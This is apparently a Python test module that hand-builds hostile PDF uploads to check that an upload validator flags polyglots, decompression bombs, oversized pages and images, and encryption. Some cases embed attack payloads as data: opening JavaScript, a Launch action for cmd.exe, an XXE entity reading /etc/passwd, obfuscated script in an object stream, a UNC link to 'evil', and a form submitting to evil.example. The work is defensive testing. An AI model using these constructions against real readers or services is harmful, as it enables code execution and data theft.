"""The PDFs among the hostile uploads, written by hand so that nothing in them is tidied away. Registered on import."""

from __future__ import annotations

import struct
import zlib
from io import BytesIO

import pikepdf

from accounts.judging import Code
from tests.accounts.hostile_files import Made, archive, canary, case, jpeg, picture, zeros

TEXT = b"BT /F1 24 Tf 72 700 Td (Licence 1100) Tj ET"


def stream(body: bytes, entries: bytes = b"") -> bytes:
    return b"<</Length %d %s>>stream\n%s\nendstream" % (len(body), entries, body)


def pdf(objects: list[bytes], trailer: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalog."""
    out, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    start, size = len(out), len(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table)
    out += b"trailer\n<</Size %d/Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)
    return bytes(out)


def one_page(catalog: bytes = b"", page: bytes = b"", *more: bytes, content: bytes | None = None) -> bytes:
    """A page with a line of text; more objects are numbered from 6."""
    box = b"" if b"/MediaBox" in page else b"/MediaBox[0 0 595 842]"
    resources = b"" if b"/Resources" in page else b"/Resources<</Font<</F1 5 0 R>>>>"
    return pdf([
        b"<</Type/Catalog/Pages 2 0 R %s>>" % catalog,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/Contents 4 0 R %s%s%s>>" % (box, resources, page),
        content or stream(TEXT),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        *more,
    ])  # fmt: skip


def with_picture(entries: bytes, body: bytes) -> bytes:
    """A page that draws one picture object."""
    return one_page(
        b"",
        b"/Resources<</XObject<</I 6 0 R>>>>",
        stream(body, b"/Type/XObject/Subtype/Image" + entries),
        content=stream(b"500 0 0 700 40 40 cm /I Do"),
    )


def in_object_stream(action: bytes) -> bytes:
    """A PDF whose catalog and action lie compressed in an object stream, with a cross-reference stream."""
    hidden = {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
        4: action,
    }
    index, bodies = b"", b""
    for number, body in hidden.items():
        index += b"%d %d " % (number, len(bodies))
        bodies += body + b" "
    packed = zlib.compress(index + bodies)
    out = b"%PDF-1.7\n"
    first = len(out)
    out += b"5 0 obj\n" + stream(packed, b"/Type/ObjStm/N 4/First %d/Filter/FlateDecode" % len(index)) + b"\nendobj\n"
    second = len(out)
    rows = [(0, 0, 65535), *((2, 5, place) for place in range(4)), (1, first, 0), (1, second, 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    out += b"6 0 obj\n" + stream(table, b"/Type/XRef/W[1 4 2]/Size 7/Root 1 0 R") + b"\nendobj\n"
    return out + b"startxref\n%d\n%%%%EOF\n" % second


def locked(user: str, owner: str) -> bytes:
    out = BytesIO()
    with pikepdf.open(BytesIO(one_page())) as made:
        made.save(out, encryption=pikepdf.Encryption(user=user, owner=owner, R=6))
    return out.getvalue()


@case("08", "PDF named .jpg", Code.NAME_MISMATCH)
def _() -> Made:
    return "a.jpg", one_page()


@case("16", "HTML before the PDF", Code.POLYGLOT)
def _() -> Made:
    return "a.pdf", b"<html><script>alert('%s')</script>\n" % canary("16") + one_page()


@case("17", "PDF that is also a ZIP", Code.POLYGLOT)
def _() -> Made:
    return "a.pdf", one_page() + archive("evil.jsp", canary("17"))


@case("26", "Flate stream of 512 MiB", Code.TOO_COMPLEX)
def _() -> Made:
    return "a.pdf", one_page(content=stream(zeros(512), b"/Filter/FlateDecode"))


@case("27", "Flate in Flate in Flate", Code.TOO_COMPLEX)
def _() -> Made:
    body = zlib.compress(zlib.compress(zeros(512), 9), 9)
    return "a.pdf", one_page(content=stream(body, b"/Filter[/FlateDecode/FlateDecode/FlateDecode]"))


@case("28", "page tree that loops", Code.BROKEN)
def _() -> Made:
    kids = b"<</Type/Pages/Kids[3 0 R]/Count 1/Parent 3 0 R>>"
    return "a.pdf", pdf([b"<</Type/Catalog/Pages 2 0 R>>", kids, b"<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>"])


@case("29", "100,000 pages", Code.TOO_MANY_PAGES)
def _() -> Made:
    kids = b" ".join(b"%d 0 R" % number for number in range(3, 100_003))
    pages = b"<</Type/Pages/MediaBox[0 0 9 9]/Count 100000/Kids[%s]>>" % kids
    return "a.pdf", pdf([b"<</Type/Catalog/Pages 2 0 R>>", pages, *[b"<</Type/Page/Parent 2 0 R>>"] * 100_000])


@case("30", "page of 2,000,000 points times 1000", Code.PAGE_SIZE)
def _() -> Made:
    return "a.pdf", one_page(b"", b"/MediaBox[0 0 2000000 2000000]/UserUnit 1000")


@case("31", "picture of 900 Mpx", Code.TOO_MANY_PIXELS)
def _() -> Made:
    entries = b"/Width 30000/Height 30000/BitsPerComponent 8/ColorSpace/DeviceGray/Filter/FlateDecode"
    return "a.pdf", with_picture(entries, zlib.compress(bytes(30_000)))


@case("32", "cross-reference tables in a loop", None)
def _() -> Made:
    data = one_page()
    start = int(data.rpartition(b"startxref\n")[2].split()[0])
    return "a.pdf", data.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % start)


@case("33", "200,000 nested arrays", Code.TOO_COMPLEX)
def _() -> Made:
    return "a.pdf", one_page(b"/PieceInfo 6 0 R", b"", b"[" * 200_000 + b"]" * 200_000)


@case("34", "script on opening", Code.ACTIVE_CONTENT)
def _() -> Made:
    return "a.pdf", one_page(b"/OpenAction<</S/JavaScript/JS(app.alert\\('%s'\\))>>" % canary("34"))


@case("35", "script on a page", Code.ACTIVE_CONTENT)
def _() -> Made:
    return "a.pdf", one_page(b"", b"/AA<</O<</S/JavaScript/JS(%s)>>>>" % canary("35"))


@case("36", "starts a program", Code.ACTIVE_CONTENT)
def _() -> Made:
    return "a.pdf", one_page(b"/OpenAction<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(%s)>>>>" % canary("36"))


@case("37", "attachment with a virus test string", Code.ACTIVE_CONTENT)
def _() -> Made:
    eicar = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
    names = b"/Names<</EmbeddedFiles<</Names[(a.com) 7 0 R]>>>>"
    files = (stream(eicar, b"/Type/EmbeddedFile"), b"<</Type/Filespec/F(a.com)/EF<</F 6 0 R>>>>")
    return "a.pdf", one_page(names, b"", *files)


@case("38", "XFA form with an outside entity", Code.ACTIVE_CONTENT)
def _() -> Made:
    form = b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><xdp>&e;%s</xdp>" % canary("38")
    return "a.pdf", one_page(b"/AcroForm<</Fields[]/XFA 6 0 R>>", b"", stream(form))


@case("39", "escaped script in an object stream", Code.ACTIVE_CONTENT)
def _() -> Made:
    return "a.pdf", in_object_stream(b"<</S/#4aava#53cript/#4a#53(%s)>>" % canary("39"))


@case("40", "outside file over the network", Code.ACTIVE_CONTENT)
def _() -> Made:
    page = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F(\\\\\\\\evil\\\\%s)/D[0/Fit]>>>>]"
    return "a.pdf", one_page(b"", page % canary("40"), b"<</Length 0/F(\\\\\\\\evil\\\\x)>>stream\n\nendstream")


@case("40b", "stream kept outside", Code.ACTIVE_CONTENT)
def _() -> Made:
    return "a.pdf", one_page(b"/PieceInfo 6 0 R", b"", b"<</Length 0/F(\\\\\\\\evil\\\\x)>>stream\n\nendstream")


@case("41", "script address and form that submits", Code.ACTIVE_CONTENT)
def _() -> Made:
    link = b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI( JavaScript:alert\\('%s'\\))>>>>" % canary("41")
    return "a.pdf", one_page(b"", b"/Annots[%s]" % link)


@case("41b", "form that submits", Code.ACTIVE_CONTENT)
def _() -> Made:
    button = b"<</Type/Annot/Subtype/Widget/FT/Btn/Rect[0 0 9 9]/A<</S/SubmitForm/F(http://evil.example)>>>>"
    return "a.pdf", one_page(b"", b"/Annots[%s]" % button)


@case("42", "PDF that asks for a password", Code.ENCRYPTED)
def _() -> Made:
    return "a.pdf", locked("secret", "owner")


@case("45", "PDF without its table and trailer: mended", None)
def _() -> Made:
    return "a.pdf", one_page().partition(b"xref\n")[0]


@case("B3", "two scanned pages", None)
def _() -> Made:
    out = BytesIO()
    scan = picture((1654, 2339))
    scan.save(out, "PDF", save_all=True, append_images=[scan.rotate(180)], resolution=200)
    return "扫描件.pdf", out.getvalue()


@case("B5", "harmless opening view and an empty form", None)
def _() -> Made:
    return "a.pdf", one_page(b"/OpenAction[3 0 R/XYZ 0 842 1]/AcroForm<</Fields[]>>")


@case("B7", "owner password only", None)
def _() -> Made:
    return "电子执业证照.pdf", locked("", "owner")


@case("P1", "PDF picture whose own header says 65,500 squared", Code.TOO_MANY_PIXELS)
def _() -> Made:
    data = bytearray(jpeg())
    frame = data.index(b"\xff\xc0")
    data[frame + 5 : frame + 9] = struct.pack(">HH", 65_500, 65_500)
    entries = b"/Width 320/Height 200/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/DCTDecode"
    return "a.pdf", with_picture(entries, bytes(data))
